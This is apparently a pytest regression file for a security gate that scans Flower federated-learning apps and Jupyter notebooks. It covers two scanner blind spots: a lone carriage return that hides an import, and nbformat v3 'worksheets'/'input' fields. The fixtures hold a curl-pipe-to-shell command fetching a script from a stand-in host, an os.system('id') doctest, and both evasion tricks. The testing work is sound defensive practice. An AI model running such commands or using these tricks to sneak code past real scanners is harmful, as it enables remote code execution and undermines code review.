"""Session 57 (failopen57): where the gate read less than Python or Jupyter runs, and accepted what it skipped.

- detectors/not_run.py read a Flower app's modules with tokenize on the raw text, which ends a line only at `\\n`;
  CPython also ends one at a lone `\\r`, so `# note\\rfrom ocapp import warmup` imported a module the gate marked
  never run (its capabilities, and a tracker's egress, not weighed).
- notebooks.py read `cells` and a cell's `source`; nbformat reads a document that says it is version 3 from its
  `worksheets` and a v3 code cell from its `input` (nbformat/v4/convert.py upgrade, upgrade_cell).
Each attack beside its honest twin, the corpus's and smaller ones written here.
"""

from __future__ import annotations

import json
import subprocess
import sys

import pytest

import redteam_kit as kit
from analyzer.engine.notebooks import read_notebook
from analyzer.model import Decision


@pytest.mark.parametrize("sample", kit.corpus_samples("malicious/failopen57_*", "jobs/failopen57_*"))
def test_attack_is_held(sample):
    kit.assert_held(kit.scan_sample(sample))


@pytest.mark.parametrize("sample", kit.corpus_samples("benign/near_failopen57_*"))
def test_near_twin_stays_accepted(sample):
    kit.assert_accepted(kit.scan_sample(sample))


def test_every_sample_is_labelled():
    labelled = {e["path"] for e in kit.labelled("failopen57_")}
    assert labelled == set(kit.corpus_samples("malicious/failopen57_*", "jobs/failopen57_*",
                                              "benign/near_failopen57_*"))
    assert len(labelled) == 12


# ---- a lone carriage return in a Flower app ----------------------------------------------------------------------

PYPROJECT = """[tool.flwr.app.components]
serverapp = "ocapp.server_app:app"
clientapp = "ocapp.client_app:app"
"""
CLIENT = """from flwr.app import ArrayRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp
{head}
app = ClientApp()


@app.train()
def train(msg: Message, context: Context):
    arrays = [a * 0.9 for a in msg.content["arrays"].to_numpy_ndarrays()]
    return Message(content=RecordDict({{"arrays": ArrayRecord(arrays)}}), reply_to=msg)
"""
WARMUP = 'import subprocess\n\nsubprocess.run(["nvidia-smi", "-pm", "1"], check=False)\n'


def _flower_app(folder, head: str):
    files = {"pyproject.toml": PYPROJECT, "ocapp/__init__.py": "", "ocapp/client_app.py": CLIENT.format(head=head),
             "ocapp/server_app.py": "from flwr.serverapp import ServerApp\n\napp = ServerApp()\n",
             "ocapp/warmup.py": WARMUP}
    for name, text in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(text.encode())
    return folder


@pytest.mark.parametrize("ending", ["\r", "\r\n", "\n"])
def test_an_import_after_a_line_end_runs_the_module(tmp_path, ending):
    report = kit.scan(_flower_app(tmp_path, f"# warm-up{ending}from ocapp import warmup\n"))
    kit.assert_held(report, "subprocess.run-program")
    assert not any(f.path == "ocapp/warmup.py" and f.rule == "unvouched.not-run-at-site" for f in report.findings)


def test_a_lone_carriage_return_inside_a_comment_imports_nothing(tmp_path):
    report = kit.scan(_flower_app(tmp_path, "# warm-up\r# is done by the site's admin\n"))
    kit.assert_accepted(report)
    assert {f.path for f in report.findings if f.rule == "unvouched.not-run-at-site"} == \
        {"ocapp/server_app.py", "ocapp/warmup.py"}


def test_cpython_runs_what_follows_a_lone_carriage_return(tmp_path):
    """The reading the fix follows: CPython ends the comment at `\\r` and runs the next statement."""
    script = tmp_path / "s.py"
    script.write_bytes(b"# note\rprint('ran')\n")
    assert subprocess.run([sys.executable, str(script)], capture_output=True, text=True).stdout == "ran\n"


# ---- nbformat 3 notebooks -----------------------------------------------------------------------------------------

HONEST = "import numpy as np\n\nweights = np.zeros(4)\n"
HOSTILE = "import os\n\nos.system('curl -s https://fl-tools.example.net/x.sh | sh')\n"


def _v3_cell(text: str, **more) -> dict:
    return {"cell_type": "code", "input": text, "language": "python", "metadata": {}, "outputs": [], **more}


def _v4_cell(text: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": text}


def _scan_notebook(doc: dict):
    return kit.api.analyze(kit.from_bytes("nb.ipynb", json.dumps(doc).encode(), kit.POLICY.limits), kit.POLICY)


def test_worksheets_beside_cells_are_read():
    doc = {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "cells": [_v4_cell(HONEST)],
           "worksheets": [{"cells": [_v3_cell(HOSTILE)], "metadata": {}}]}
    kit.assert_held(_scan_notebook(doc), "subprocess.shell", Decision.REJECT)


def test_a_cells_input_beside_its_source_is_read():
    doc = {"nbformat": 3, "nbformat_minor": 0, "metadata": {},
           "worksheets": [{"cells": [_v3_cell(HOSTILE, source=HONEST)], "metadata": {}}]}
    kit.assert_held(_scan_notebook(doc), "subprocess.shell", Decision.REJECT)


@pytest.mark.parametrize("doc", [
    {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": [_v3_cell(HONEST)]}]},
    {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "cells": [_v4_cell(HONEST)],
     "worksheets": [{"cells": [_v3_cell(HONEST, source=HONEST)]}]},
], ids=["v3", "both-lists-same-text"])
def test_honest_v3_notebooks_stay_accepted(doc):
    kit.assert_accepted(_scan_notebook(doc))


def test_cell_positions_of_cells_stay_and_inputs_come_last():
    doc = {"nbformat": 3, "metadata": {}, "cells": [_v4_cell("a = 1\n")],
           "worksheets": [{"cells": [_v3_cell("c = 3\n", source="b = 2\n"), _v3_cell("d = 4\n")]}]}
    assert [c.source for c in read_notebook(json.dumps(doc).encode()).cells] == \
        ["a = 1\n", "b = 2\n", "d = 4\n", "c = 3\n"]


# ---- a doctest text with a lone carriage return ------------------------------------------------------------------

DOCTEST_CLIENT = 'import doctest\n\ndoctest.testfile("checks.txt", module_relative=False)\n'


@pytest.mark.parametrize("ending, decision", [("\r", Decision.REJECT), ("\n", Decision.REJECT),
                                              ("  ", Decision.ESCALATE)])
def test_a_doctest_example_after_a_line_end_is_read(tmp_path, ending, decision):
    """doctest.testfile opens the text with universal newlines: the example after a lone \\r runs (doctest itself
    is uncatalogued, so the job escalates whatever the text holds; the example's own threat rejects)."""
    (tmp_path / "checks.txt").write_bytes(f"Shapes of the weights.{ending}>>> import os; os.system('id')\n".encode())
    report = kit.scan_files(tmp_path, {"client.py": DOCTEST_CLIENT})
    kit.assert_held(report, decision=decision)
